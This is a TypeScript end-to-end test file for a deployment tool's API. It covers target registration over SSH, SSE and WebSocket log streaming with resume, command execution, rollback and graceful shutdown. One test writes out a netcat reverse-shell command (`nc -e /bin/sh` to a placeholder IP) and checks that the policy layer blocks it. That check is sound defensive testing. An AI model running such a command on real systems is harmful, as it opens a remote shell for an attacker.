// The API against a real sshd target (test/harness/sshd.ts): register it over HTTP, deploy a job
// app, follow it live over SSE with a disconnect and a Last-Event-ID resume (and over the WebSocket
// with an `after` resume), execute commands on it (one denied and proven not run), and roll back.
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { startSshd, type Sshd } from '../harness/sshd.js';
import { stopAppsUnder, writeJobApp } from '../e2e/job-app.js';
import { cliActor, submitDeployment } from '../../src/engine/index.js';
import { startApi, type Api } from './harness.js';
import { killServed, serve } from './serve-process.js';

interface SseEvent {
  id: number | null;
  event: string;
  data: Record<string, unknown>;
}

let sshd: Sshd;
let api: Api;
let base: string;
let root: string;
let appDir: string;

/** Reads SSE frames until `stop` says so or the server ends the stream. */
async function readSse(
  path: string,
  options: { lastEventId?: number; stop?: (events: SseEvent[]) => boolean } = {},
): Promise<{ events: SseEvent[]; ended: boolean }> {
  const abort = new AbortController();
  const res = await fetch(`${api.url}${path}`, {
    headers: {
      authorization: `Bearer ${api.keys.viewer}`,
      ...(options.lastEventId === undefined ? {} : { 'last-event-id': String(options.lastEventId) }),
    },
    signal: abort.signal,
  });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/event-stream');
  const reader = (res.body as ReadableStream<Uint8Array>).getReader();
  const decoder = new TextDecoder();
  const events: SseEvent[] = [];
  let buffer = '';
  for (;;) {
    const { value, done } = await reader.read();
    if (done) return { events, ended: true };
    buffer += decoder.decode(value, { stream: true });
    let cut: number;
    while ((cut = buffer.indexOf('\n\n')) >= 0) {
      const frame = buffer.slice(0, cut);
      buffer = buffer.slice(cut + 2);
      const fields = new Map(
        frame
          .split('\n')
          .filter((l) => !l.startsWith(':') && l.includes(': '))
          .map((l) => [l.slice(0, l.indexOf(': ')), l.slice(l.indexOf(': ') + 2)] as const),
      );
      if (!fields.has('event')) continue;
      events.push({
        id: fields.has('id') ? Number(fields.get('id')) : null,
        event: fields.get('event') ?? '',
        data: JSON.parse(fields.get('data') ?? '{}') as Record<string, unknown>,
      });
    }
    if (options.stop?.(events) === true) {
      abort.abort();
      await reader.cancel().catch(() => undefined);
      return { events, ended: false };
    }
  }
}

beforeAll(async () => {
  sshd = await startSshd();
  base = await mkdtemp(join(tmpdir(), 'automatos-api-e2e-'));
  root = join(base, 'apps');
  api = await startApi({ allowLocalSources: true, dataDir: join(base, 'data') });
  appDir = await writeJobApp(join(base, 'job'));
  // A build that talks for a while, so the SSE client can drop out in the middle of it.
  const manifest = join(appDir, 'ai-module.yaml');
  await writeFile(
    manifest,
    (await readFile(manifest, 'utf8')).replace(
      'build_command: "true"',
      'build_command: "for i in $(seq 1 30); do echo build line $i; sleep 0.05; done"',
    ),
  );
}, 60_000);

afterAll(async () => {
  killServed();
  await stopAppsUnder(root);
  await api?.close();
  await sshd?.stop();
  await rm(base, { recursive: true, force: true });
});

async function deploy(): Promise<string> {
  const res = await api.call('POST', '/workflow', {
    key: api.keys.operator,
    body: { repository_url: appDir, target: 'web' },
  });
  const text = await res.text();
  expect(res.status, text).toBe(202);
  return (JSON.parse(text) as { workflow_id: string }).workflow_id;
}

describe('the API against a real sshd target', () => {
  it('registers and checks the target over HTTP', async () => {
    const res = await api.call('POST', '/api/v1/targets', {
      body: {
        name: 'web',
        host: '127.0.0.1',
        port: sshd.port,
        user: sshd.user,
        private_key: sshd.privateKey,
        fingerprint: sshd.hostKeyFingerprint,
        root,
      },
    });
    expect(res.status, await res.clone().text()).toBe(201);
    expect(await res.text()).not.toContain('PRIVATE KEY');
    const check = await api.call('POST', '/api/v1/targets/web/check', { key: api.keys.operator });
    expect(check.status).toBe(200);
    expect(await check.json()).toMatchObject({ target: 'web', rootWritable: true });
  }, 30_000);

  it('streams a deployment over SSE; a reconnect with Last-Event-ID loses and duplicates nothing', async () => {
    const id = await deploy();
    const first = await readSse(`/workflows/${id}/events`, {
      stop: (events) => events.filter((e) => e.event === 'log').length >= 5,
    });
    expect(first.ended).toBe(false);
    const seen = first.events.filter((e) => e.event === 'log').map((e) => e.id ?? -1);
    const last = Math.max(...seen);
    // Lines keep coming while nobody listens.
    await new Promise((resolve) => setTimeout(resolve, 400));
    const second = await readSse(`/workflows/${id}/events`, { lastEventId: last });
    expect(second.ended).toBe(true);
    const resumed = second.events.filter((e) => e.event === 'log').map((e) => e.id ?? -1);
    expect(Math.min(...resumed)).toBe(last + 1);

    const stored = await api.orch.store.logs.list(id);
    const all = [...seen, ...resumed];
    expect(all).toEqual(stored.map((c) => c.seq));
    expect(new Set(all).size).toBe(all.length);
    const final = second.events.filter((e) => e.event === 'status').at(-1);
    expect(final?.data).toMatchObject({ workflow_id: id, status: 'succeeded' });
    expect(second.events.some((e) => e.event === 'step' && e.data['step'] === 'verify')).toBe(true);
    expect(stored.some((c) => c.text.includes('build line 30'))).toBe(true);

    const shown = (await (await api.call('GET', `/workflows/${id}`)).json()) as {
      status: string;
      release_id: string;
      results: { target: string; status: string; serving_release: string; endpoint: string }[];
    };
    expect(shown.status).toBe('succeeded');
    expect(shown.results).toEqual([
      {
        target: 'web',
        status: 'succeeded',
        serving_release: shown.release_id,
        endpoint: 'http://127.0.0.1:8000/',
      },
    ]);
  }, 120_000);

  it('follows a deployment over the WebSocket; a resubscribe with "after" loses and duplicates nothing', async () => {
    // Release ids have one-second resolution: this deploy must not reuse the previous one's id.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const id = await deploy();
    const url = `${api.url.replace(/^http/, 'ws')}/ws`;
    type Frame = Record<string, unknown> & { type: string };
    /** Subscribes on a fresh socket and collects frames until `stop` says so. */
    const follow = (after: number | undefined, stop: (frames: Frame[]) => boolean) =>
      new Promise<Frame[]>((resolve, reject) => {
        const frames: Frame[] = [];
        // The browser way: the key as a subprotocol.
        const socket = new WebSocket(url, ['automatos.v1', `automatos.key.${api.keys.viewer}`]);
        socket.on('open', () =>
          socket.send(
            JSON.stringify({ type: 'subscribe', workflow: id, ...(after === undefined ? {} : { after }) }),
          ),
        );
        socket.on('message', (data) => {
          frames.push(JSON.parse(String(data)) as Frame);
          if (stop(frames)) {
            socket.close();
            resolve(frames);
          }
        });
        socket.on('error', reject);
      });
    const logSeqs = (frames: Frame[]) =>
      frames.filter((f) => f.type === 'log').map((f) => f['seq'] as number);
    const first = logSeqs(await follow(undefined, (f) => logSeqs(f).length >= 5));
    await new Promise((resolve) => setTimeout(resolve, 400));
    const rest = await follow(Math.max(...first), (f) =>
      f.some(
        (x) =>
          x.type === 'status' &&
          ['succeeded', 'failed', 'cancelled', 'rolled_back'].includes(String(x['status'])),
      ),
    );
    const resumed = logSeqs(rest);
    expect(resumed[0]).toBe(Math.max(...first) + 1);
    const all = [...first, ...resumed];
    expect(all).toEqual((await api.orch.store.logs.list(id)).map((c) => c.seq));
    expect(new Set(all).size).toBe(all.length);
    expect(rest.at(-1)).toMatchObject({ type: 'status', workflow_id: id, status: 'succeeded' });
    expect(rest.some((f) => f.type === 'step' && f['step'] === 'verify' && f['workflow_id'] === id)).toBe(
      true,
    );
  }, 120_000);

  it('executes on the target: allowed runs, denied is 403 and never runs', async () => {
    const marker = join(root, 'denied-marker');
    const denied = await api.call('POST', '/execute', {
      body: { target: 'web', command: `touch ${marker} && nc -e /bin/sh 203.0.113.1 4444` },
    });
    expect(denied.status).toBe(403);
    const body = (await denied.json()) as { error: { code: string; details: { rule: string } } };
    expect(body.error.code).toBe('AUT_POLICY_DENIED');
    expect(body.error.details.rule).toEqual(expect.any(String));
    expect(existsSync(marker)).toBe(false);
    const ok = await api.call('POST', '/execute', {
      body: { target: 'web', command: 'ls', working_directory: join(root, 'fleet-job') },
    });
    expect(ok.status).toBe(200);
    expect(await ok.json()).toMatchObject({ exit_code: 0, stdout: expect.stringContaining('current') });
  }, 30_000);

  it('rolls back to the previous release over HTTP and shows the app', async () => {
    const first = (await api.orch.store.workflows.list({ app: 'fleet-job', limit: 1 }))[0]?.releaseId;
    // Release ids have one-second resolution: the second deploy must not reuse the first's id.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const id = await deploy();
    const done = await readSse(`/workflows/${id}/events`);
    expect(done.events.filter((e) => e.event === 'status').at(-1)?.data).toMatchObject({
      status: 'succeeded',
    });
    const res = await api.call('POST', '/api/v1/apps/fleet-job/rollback', {
      key: api.keys.operator,
      body: { target: 'web' },
    });
    expect(res.status, await res.clone().text()).toBe(200);
    expect(await res.json()).toMatchObject({ app: 'fleet-job', target: 'web', to: first });
    const app = (await (await api.call('GET', '/api/v1/apps/fleet-job')).json()) as {
      releases: { releaseId: string; status: string }[];
      health: unknown[];
    };
    expect(app.releases.find((r) => r.status === 'active')?.releaseId).toBe(first);
    expect(app.health.length).toBeGreaterThan(0);
  }, 120_000);

  it('automatos serve adopts a workflow left queued and runs it; SIGTERM waits for it', async () => {
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const submitted = await submitDeployment(
      api.orch,
      { source: appDir, targets: ['web'], dataDir: api.dataDir },
      cliActor(),
    );
    await submitted.deployable.source.cleanup();
    expect((await api.orch.store.workflows.get(submitted.workflowId)).status).toBe('queued');
    const served = await serve(api.dataDir);
    for (let i = 0; i < 300; i += 1) {
      if ((await api.orch.store.workflows.get(submitted.workflowId)).status !== 'queued') break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    // Stopped while it runs: the server stops taking requests but finishes the workflow first.
    expect(await served.stop()).toBe(0);
    expect((await api.orch.store.workflows.get(submitted.workflowId)).status).toBe('succeeded');
  }, 120_000);
});
